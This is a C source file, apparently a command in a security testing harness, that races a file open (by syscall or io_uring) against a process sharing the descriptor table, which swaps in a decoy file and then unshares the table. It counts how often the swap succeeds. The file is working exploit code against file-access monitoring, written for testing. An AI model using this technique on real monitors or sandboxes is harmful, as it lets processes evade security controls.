/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A process comes to share the descriptor table, replaces the descriptor that a call returns, and leaves before anybody
 * looks at the table. At both ends of the look, the table has one user.
 */
#include "attack/rival.h"
#include "ring.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_close_range
#define SYS_close_range 436
#endif
/* CLOSE_RANGE_UNSHARE of linux/close_range.h */
#define UNSHARE_AND_CLOSE 2

#define VISITOR_SECONDS 10
/* To take this many buffers, each a byte, lasts longer than the visitor's act, and the kernel does it at once. */
#define BUFFERS 10000
/* The requests of a round: an open between two slow ones, each with a poll before it. */
#define REQUESTS 6
#define OPEN 1
#define OTHER 2

/* The state of the attack, in memory that all its processes share. */
struct visit {
	char *path;
	struct stat decoy_file;
	/* The descriptor that the call will return, and the one that replaces it. */
	int wanted, decoy;
	volatile bool here, over;
	/* The time at which the visitor had left the table, or 0. */
	volatile long long left;
	long calls, won;
	const struct rival *processors;
	/* The ring, the pipe that its polls wait for, and the memory of the buffers. */
	struct ring ring;
	int pipe[2];
	char room[BUFFERS];
	char truth[];
};

/* Waits for the descriptor, which the table has when the kernel installs the file, replaces it, and leaves. */
static void visit_table(struct visit *visit)
{
	rival_apart(visit->processors);
	visit->here = true;
	while (fcntl(visit->wanted, F_GETFD) < 0)
		if (visit->over)
			_exit(0);
	dup2(visit->decoy, visit->wanted);
	/* A table of its own that has nothing in it is the fastest to get. */
	if (syscall(SYS_close_range, 0, ~0U, UNSHARE_AND_CLOSE) && unshare(CLONE_FILES))
		_exit(1);
	visit->left = now();
	_exit(0);
}

/* Starts a visitor, which shares the descriptor table and nothing else, and waits until it is there. */
static pid_t receive_visitor(struct visit *visit)
{
	visit->here = visit->over = false;
	visit->left = 0;
	pid_t visitor = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);

	if (!visitor) {
		alarm(VISITOR_SECONDS);
		visit_table(visit);
	}
	while (visitor > 0 && !visit->here)
		sched_yield();
	return visitor;
}

/* Ends a round whose call returned a descriptor at a moment. */
static void close_round(struct visit *visit, long round, pid_t visitor, long fd, long long returned)
{
	struct stat status;
	int end = 0;

	visit->over = true;
	if (visitor < 0 || waitpid(visitor, &end, 0) != visitor || end)
		_exit(4);
	/* The path never changes, so the call opened a, whatever the descriptor is now. */
	visit->truth[round] = fd >= 0 ? 'a' : 'x';
	visit->won += fd == visit->wanted && visit->left && visit->left < returned && !fstat((int)fd, &status) &&
		      status.st_ino == visit->decoy_file.st_ino;
	close(visit->wanted);
	if (fd >= 0 && fd != visit->wanted)
		close((int)fd);
}

/* Opens the file by a system call. The visitor is there when it enters. */
static void visited_call(struct visit *visit, long round)
{
	pid_t visitor = receive_visitor(visit);
	long fd = watched_openat(ABI_NATIVE, AT_FDCWD, visit->path, O_RDONLY, 0);

	close_round(visit, round, visitor, fd, now());
}

static struct io_uring_sqe *add(struct visit *visit, int opcode, int fd, int name)
{
	struct io_uring_sqe *request = ring_next(&visit->ring);

	request->opcode = (unsigned char)opcode;
	request->fd = fd;
	request->user_data = (unsigned)name;
	ring_push(&visit->ring);
	return request;
}

/* Adds a poll of the pipe, which the next request waits for. */
static void add_poll(struct visit *visit)
{
	struct io_uring_sqe *request = add(visit, IORING_OP_POLL_ADD, visit->pipe[0], OTHER);

	request->poll32_events = POLLIN;
	request->flags = IOSQE_IO_LINK;
}

/* Takes that many completions, and returns the result of the open. */
static long await_open(struct ring *ring, int count)
{
	long result = -1;

	for (int taken = 0; taken < count; taken++) {
		struct completion completion = ring_await(ring);

		if (completion.user_data == OPEN)
			result = completion.result;
	}
	return result;
}

/* Adds a slow request, which provides buffers from that number on. */
static void add_slow(struct visit *visit, unsigned first)
{
	struct io_uring_sqe *request;

	add_poll(visit);
	request = add(visit, IORING_OP_PROVIDE_BUFFERS, BUFFERS, OTHER);
	request->addr = (uintptr_t)visit->room;
	request->len = 1;
	request->off = first;
}

/*
 * Opens the file by a request that is linked behind a poll. The visitor comes after the submission. One write wakes all
 * polls, so the kernel runs the open and the slow requests in one pass of task work, in either order, and tells of them
 * after it.
 */
static void visited_request(struct visit *visit, long round)
{
	char byte = 0;

	add_slow(visit, 0);
	add_poll(visit);
	add(visit, IORING_OP_OPENAT, AT_FDCWD, OPEN)->addr = (uintptr_t)visit->path;
	add_slow(visit, BUFFERS);
	ring_enter(&visit->ring, REQUESTS, 0);
	pid_t visitor = receive_visitor(visit);

	__atomic_fetch_add(&counts()->begun, 1, __ATOMIC_SEQ_CST);
	/* The kernel would cut the pass of task work short for another thread that waits for the processor. */
	sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){.sched_priority = 1});
	if (write(visit->pipe[1], &byte, 1) != 1)
		_exit(3);
	long fd = await_open(&visit->ring, REQUESTS);
	long long returned = now();
	sched_setscheduler(0, SCHED_OTHER, &(struct sched_param){0});
	__atomic_fetch_add(&counts()->ended, 1, __ATOMIC_SEQ_CST);
	if (read(visit->pipe[0], &byte, 1) != 1)
		_exit(3);
	add(visit, IORING_OP_REMOVE_BUFFERS, 2 * BUFFERS, OTHER);
	ring_enter(&visit->ring, 1, 1);
	await_open(&visit->ring, 1);
	close_round(visit, round, visitor, fd, returned);
}

static void be_visited(struct visit *visit, bool by_request)
{
	if (by_request && (pipe2(visit->pipe, O_CLOEXEC | O_NONBLOCK) || !ring_open(&visit->ring, false)))
		_exit(2);
	rival_beside(visit->processors);
	visit->wanted = dup(0);
	close(visit->wanted);
	for (long i = 0; i < visit->calls; i++) {
		if (by_request)
			visited_request(visit, i);
		else
			visited_call(visit, i);
	}
	_exit(0);
}

static void play(struct visit *visit, bool by_request, const char *fifo, int threads)
{
	pid_t load = threads > 0 ? load_start(fifo, threads) : 0;
	pid_t child = fork_child();

	if (!child)
		be_visited(visit, by_request);
	int status = child < 0 ? -1 : reap(child, 100);
	if (load > 0) {
		kill(load, SIGKILL);
		reap(load, 20);
	}
	if (WIFEXITED(status) && WEXITSTATUS(status) == 2) {
		fail("unsupported: no io_uring");
	} else if (status) {
		fail("unsupported: no process comes to share descriptors: status %d", status);
	} else {
		reply_begin();
		reply("tid=%d won=%ld truth=%s", child, visit->won, visit->truth);
		reply_end();
	}
}

void command_fd_visit(void)
{
	struct bytes a = {0}, b = {0}, fifo = {0};
	const char *how = line_text("how");
	long calls = (long)line_number("calls", 1);
	size_t size = sizeof(struct visit) + (size_t)calls + 1;
	struct visit *visit = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct rival *rival = rival_new(NULL, NULL, true);

	if (visit == MAP_FAILED || !how) {
		fail("fd-visit needs how=linked or call");
	} else if (bytes_take(&a, "a") && bytes_take(&b, "b") && (!line_text("fifo") || bytes_take(&fifo, "fifo"))) {
		visit->path = (char *)a.address;
		visit->calls = calls;
		visit->processors = rival;
		visit->decoy = open_unwatched((char *)b.address, O_RDONLY);
		if (visit->decoy < 0 || fstat(visit->decoy, &visit->decoy_file))
			fail("unsupported: open_by_handle_at: %s", strerror(errno));
		else
			play(visit, strcmp(how, "call"), (char *)fifo.address,
			     fifo.address ? (int)line_number("threads", 0) : 0);
		if (visit->decoy >= 0)
			close(visit->decoy);
	}
	free(a.address);
	free(b.address);
	free(fifo.address);
	rival_free(rival);
	munmap(visit, size);
}
